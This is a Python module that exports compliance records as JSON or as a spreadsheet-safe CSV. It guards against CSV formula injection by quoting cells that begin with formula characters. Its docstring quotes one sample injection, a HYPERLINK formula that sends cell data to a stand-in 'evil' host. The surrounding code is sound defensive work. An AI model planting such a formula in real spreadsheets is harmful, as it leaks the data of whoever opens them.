"""`itacheck export`: a year's records as JSON (for programs) or CSV (for a spreadsheet).

The CSV is opened by officers in Excel or LibreOffice, where a cell that begins with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return before one) is run as a formula: a note such as
``=HYPERLINK("http://evil/?"&A1,"click")`` would leak the sheet or run commands. Every cell is
therefore made inert as OWASP's CSV-injection guidance recommends, by prefixing a single quote.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence

from itacheck.domain.model import Plan, Record
from itacheck.store.codec import record_to_dict

#: What a spreadsheet treats as the start of a formula (OWASP "CSV Injection").
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Excel reads a CSV without a byte-order mark in the local code page, turning Thai into mojibake.
_UTF8_BOM = "\ufeff"

CSV_COLUMNS = ("task", "occurrence", "done_on", "not_applicable", "reason", "note", "links", "attachments",
               "recorded_by", "recorded_at")


def spreadsheet_safe(cell: str) -> str:
    """``cell`` as text a spreadsheet shows but never evaluates."""
    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell


def records_csv(records: Sequence[Record]) -> bytes:
    """One row per record. A not-applicable record says so in its own column, with its note as the
    reason, so it cannot be read as done."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(CSV_COLUMNS)
    for r in records:
        row = [r.task_id, r.occurrence, r.done_on.isoformat(), "yes" if r.skipped else "no",
               r.note if r.skipped else "", "" if r.skipped else r.note, " ".join(r.links),
               " ".join(a.name for a in r.attachments), r.recorded_by,
               r.recorded_at.isoformat(timespec="seconds") if r.recorded_at else ""]
        writer.writerow([spreadsheet_safe(cell) for cell in row])
    return (_UTF8_BOM + out.getvalue()).encode("utf-8")


def records_json(plan: Plan, records: Sequence[Record]) -> bytes:
    """The records as the year file holds them, with the year and organisation they belong to."""
    doc = {"year": plan.year, "organisation": plan.organisation.name,
           "records": [record_to_dict(r) for r in records]}
    return json.dumps(doc, ensure_ascii=False, indent=2).encode("utf-8")
